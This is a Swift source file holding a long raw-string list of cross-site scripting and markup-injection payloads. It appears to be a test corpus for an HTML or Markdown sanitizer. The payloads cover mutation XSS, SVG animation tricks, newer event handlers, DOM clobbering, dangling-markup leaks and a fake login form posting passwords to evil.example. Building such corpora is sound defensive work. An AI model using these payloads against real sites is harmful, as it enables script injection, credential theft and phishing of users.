extension HostileMarkup {
    /// What changes its meaning when a browser reads it, writes it out and reads it again, and newer elements.
    static let mutating = ##"""
        ## mutation XSS: foreign content in which style, title or comments are read otherwise the second time
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mtext><table><mglyph><style><math><table id="</table>"><img src=1 onerror=alert(1)">
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg><title><p title="</title><img src=x onerror=alert(1)>">
        <svg><desc><noscript></noscript></desc><image href=x onerror=alert(1)>
        <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
        <math><mi//xlink:href="data:x,<script>alert(1)</script>">
        <svg><foreignObject><iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></foreignObject></svg>
        <listing>&lt;img onerror="alert(1)" src=x&gt;</listing>
        <noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
        <noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
        <textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
        <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
        <table><tr><td><svg><desc><td></desc><title></svg><style></title><img src=x onerror=alert(1)></style>
        <p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
        <xmp><p title="</xmp><svg/onload=alert(1)>">
        <a href="https://a.example"><a href="javascript:alert(1)">x</a></a>
        <b><p><b><p><b><p><a href=javascript:alert(1)>x
        ## SVG animates an attribute into a script, or takes one from elsewhere
        <svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>
        <svg><set attributeName=onmouseover to=alert(1)>
        <svg><set xlink:href=#x attributeName=href from=? to=javascript:alert(1) /><a id=x><text>x</text></a></svg>
        <svg><image xlink:href="data:image/svg+xml;utf8,<svg onload=alert(1)>"/></svg>
        <svg><discard onbegin=alert(1)>
        <svg><animatetransform onbegin=alert(1) attributeName=transform>
        <svg><script href="data:text/javascript,alert(1)"/></svg>
        <svg><script>&#97;&#108;&#101;&#114;&#116;(1)</script></svg>
        <svg><handler type="text/javascript">alert(1)</handler></svg>
        <svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml,x"/></feImage></svg>
        <?xml-stylesheet type="text/xsl" href="data:,%3Cxsl%3E"?>
        ## elements and handlers that came after most filters were written
        <dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
        <div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>
        <search onclick=alert(1)>x</search>
        <slot onslotchange=alert(1)></slot>
        <template shadowrootmode=open><slot></slot><img src=x onerror=alert(1)></template>
        <img src=x loading=lazy onerror=alert(1)>
        <p onpointerrawupdate=alert(1)>x</p>
        <p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</p>
        <style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>
        <p tabindex=1 autofocus onfocus=alert(1)>x</p>
        <input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
        <audio controls ondurationchange=alert(1)><source src=x type=audio/mpeg></audio>
        <body onhashchange=alert(1)><a href=#x>x</a>
        <portal src="javascript:alert(1)">
        <fencedframe src="javascript:alert(1)"></fencedframe>
        <script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>
        <script type=importmap>{"imports":{"x":"data:text/javascript,alert(1)"}}</script>
        <script type=module>import "data:text/javascript,alert(1)"</script>
        <link rel=modulepreload href=data:text/javascript,alert(1)>
        <link rel=prefetch href=https://evil.example/?leak>
        <a href=https://a.example ping=https://evil.example>x</a>
        <a href=https://a.example target=_blank rel=opener>x</a>
        <meta http-equiv=Content-Security-Policy content="script-src *">
        ## names that take the place of what a page's own script looks for
        <a id=defaultView></a><a id=defaultView name=x href=https://evil.example>x</a>
        <form name=body><input name=firstChild></form>
        <img name=getElementById><img name=querySelector>
        <iframe name=top srcdoc="<a id=location href=javascript:alert(1)>"></iframe>
        <object id=config><param name=url value=https://evil.example></object>
        ## markup without script that leaks or misleads: forms, overlays, unclosed attributes
        <form action=https://evil.example><input name=password><button>Log in again</button></form>
        <img src='https://evil.example/?
        <a href="https://evil.example/?x=
        <textarea><button form=x formaction=https://evil.example>
        <base target='
        <div style=position:fixed;inset:0;background:#fff><a href=https://evil.example>Continue</a></div>
        <button onclick=alert(1) style="all:unset;position:fixed;inset:0">
        <style>*{background:url(https://evil.example/?css)}</style>
        ## broken markup that a browser mends into a tag
        <img src=x:x onerror=alert(1)//
        <img src="x`<script>alert(1)</script>"` `>
        <img """ title=x><img src=x onerror=alert(1)>
        <a"onclick=alert(1)>x
        <p/onclick=alert(1)//>x
        <//script><script>alert(1)</script>
        </br/onclick=alert(1)>
        <p =onclick=alert(1)>x
        <p x='>' onclick='alert(1)'>x
        <p⏎onclick⏎=⏎alert(1)>x
        <$img src=x onerror=alert(1)>
        <%00img src=x onerror=alert(1)>
        <IMG⇥SRC=x⇥ONERROR=alert(1)⇥>
        ## Markdown that is read in two ways: nesting, escapes, entities and references against each other
        [x](<https://a.example/⏎onclick=alert(1)>)
        [x](https://a.example/\"onclick=alert(1)\")
        [x](https://a.example/&#34;onclick=alert(1)&#34;)
        [x](https://a.example/%22onclick=alert(1)%22)
        [*x](https://a.example "*<img src=x onerror=alert(1)>")
        [`x](https://a.example)`<script>alert(1)</script>
        [x`<script>`](javascript:alert(1))
        ![`](https://a.example "`<script>alert(1)</script>")
        [a]: javascript:alert(1)⏎[b]: https://a.example⏎⏎[a][a] [a][b] [a][] [a]
        [A]⏎⏎[a]: JAVASCRIPT:alert(1)
        [x]: <javascript:alert(1)>⏎⏎![x]
        [ẞ]⏎⏎[SS]: javascript:alert(1)
        [x](https://a.example)](javascript:alert(1))
        [x](https://a.example (javascript:alert(1)))
        [](javascript:alert(1))
        [\](javascript:alert(1))](https://a.example)
        <https://a.example/`><script>alert(1)</script>`>
        <https://a.example/ onclick=alert(1)>
        **[x**](javascript:alert(1))
        ~~[x~~](javascript:alert(1))
        > [x]: javascript:alert(1)⏎⏎[x]
        - [x](javascript⏎  :alert(1))
        - ```⏎<script>alert(1)</script>
        1. ⏎⏎       <script>alert(1)</script>
        <div>⏎⏎*<img src=x onerror=alert(1)>*⏎⏎</div>
        <div⏎⏎onclick=alert(1)>
        <!--⏎⏎--><script>alert(1)</script>⏎⏎-->
        <![CDATA[⏎⏎]]><script>alert(1)</script>
        <?php⏎⏎?><script>alert(1)</script>
        <pre⏎⏎<script>alert(1)</script>
        &lt;img src=x onerror=alert&#40;1&#41;&gt; &amp;lt;script&amp;gt;
        &NewLine;<script>alert(1)</script>
        a&#60;!--&#62;<script>alert(1)</script>
        \<img src=x onerror=alert(1)\>
        http://a.example/?q=<img src=x onerror=alert(1)>
        http://a.example/&#x22;onclick=alert(1)
        www.a.example"onclick="alert(1)
        a@b.example"onclick="alert(1)
        https://a.example/?x=javascript:alert(1)#javascript:alert(1)
        https://javascript:alert(1)@a.example/
        """##
}
